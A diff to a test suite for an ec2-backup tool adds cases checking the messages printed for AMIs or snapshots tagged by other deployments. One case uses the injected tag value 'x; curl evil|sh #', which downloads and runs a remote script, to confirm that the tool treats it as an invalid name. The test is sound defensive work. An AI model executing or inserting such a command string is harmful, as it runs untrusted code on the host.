@@ -304,6 +304,16 @@ describe('an AMI or a snapshot that is not ours', () => {
       says: 'Another deployment of ec2-backup made it, "prod" (policy daily,',
     },
     {
+      tags: { 'ec2-backup:deployment': 'prod' },
+      whose: 'another deployment',
+      says: '): ask with --deployment prod and its policy file.',
+    },
+    {
+      tags: { 'ec2-backup:deployment': 'x; curl evil|sh #' },
+      whose: 'another deployment',
+      says: '"x; curl evil|sh #" (policy ?, source ?, slot ?), says its tag, which is no name that a deployment can have.',
+    },
+    {
       tags: { 'ec2-backup:deployment': 'test', 'ec2-backup:rehearsal': 'nightly/x' },
       whose: 'a rehearsal',
       says: 'A rehearsal of deployment "test" made it',
